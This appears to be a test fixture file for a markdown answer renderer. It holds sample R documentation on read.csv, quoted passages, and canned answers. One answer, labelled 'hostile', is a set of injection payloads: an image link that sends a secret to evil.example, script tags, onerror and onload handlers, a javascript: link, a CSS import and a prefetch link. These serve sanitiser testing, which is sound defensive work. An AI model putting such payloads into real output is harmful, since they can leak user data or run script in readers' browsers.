// Pages and answers to look at.

export const pageTexts = [
  `Chapter 2: Spreadsheet-like data

The easiest form of data to import is a simple text file, and this will often
be acceptable for problems of small or medium scale. The primary function to
read such files is scan, and it underlies most of the more convenient
functions described here.

A text file that holds a table is read with one call:

    HousePrice <- read.table("houses.data", header = TRUE)

The result is a data frame, with one row for each line of the file and one
column for each field. Columns of numbers become numeric vectors; every-
thing else stays as it was written – “strings” are not changed.`,
  `2.1 Variations on read.table

The function read.csv() reads a comma-separated file into a data frame; its
first argument is the name of the file. It is read.table() with defaults that
suit files exported from spreadsheets: sep = "," and header = TRUE. Its twin
read.csv2() expects a semicolon between fields and a comma as the decimal
mark, as is usual in many European countries.

Fields may be quoted. Inside quotes the separator has no meaning, so names
such as "Smith, Jane" stay in one piece. Lines that are shorter than the
first are filled with missing values when fill = TRUE.

    flights <- read.csv("flights.csv")
    str(flights)

Missing values are written NA unless na.strings says otherwise.`,
  `2.2 Large files

For large tables it pays to name the types of the columns with colClasses and
the number of rows with nrows: memory is then allocated once. Very large
files are better kept in a database, from which only the rows that are needed
are fetched.`,
];

export const quotes = [
  'The function read.csv() reads a comma-separated file into a data frame; its first argument is the name of the file.',
  'The result is a data frame, with one row for each line of the file and one column for each field.',
  'name the types of the columns with colClasses and the number of rows with nrows: memory is then allocated once.',
];

export const answers = {
  plain: `Use **\`read.csv()\`** with the name of the file [1]. It returns a data frame with one row for each line and one column for each field [2]:

\`\`\`r
flights <- read.csv("flights.csv")
str(flights)
\`\`\`

A few arguments matter in practice:

| Argument | What it does | Default |
| --- | --- | --- |
| \`sep\` | separates the fields | \`","\` |
| \`header\` | the first line holds names | \`TRUE\` |
| \`na.strings\` | marks missing values | \`"NA"\` |

- For files with semicolons and decimal commas use \`read.csv2()\` [1].
- For large tables name the types with \`colClasses\`: memory is then allocated once [3].`,
  slow: 'This sentence is part of a long answer that takes its time, so that there is something to stop [1]. '.repeat(60),
  hostile: `Before ![secret](https://evil.example/?q=SECRET) and <img src=x onerror="window.hacked=1"> after [1].

<script>window.hacked = 1</script>

[click me](javascript:window.hacked=1) and [a bank](https://evil.example/login) and https://evil.example/auto and ![ref][r].

[r]: https://evil.example/reference.png
[1]: https://evil.example/one

<svg onload="window.hacked=1"><style>@import url(https://evil.example/a.css)</style></svg></textarea><link rel="prefetch" href="https://evil.example/p">`,
  nothing: 'The documents do not say. The passages listed as sources come closest, but they do not seem to speak of this.',
};
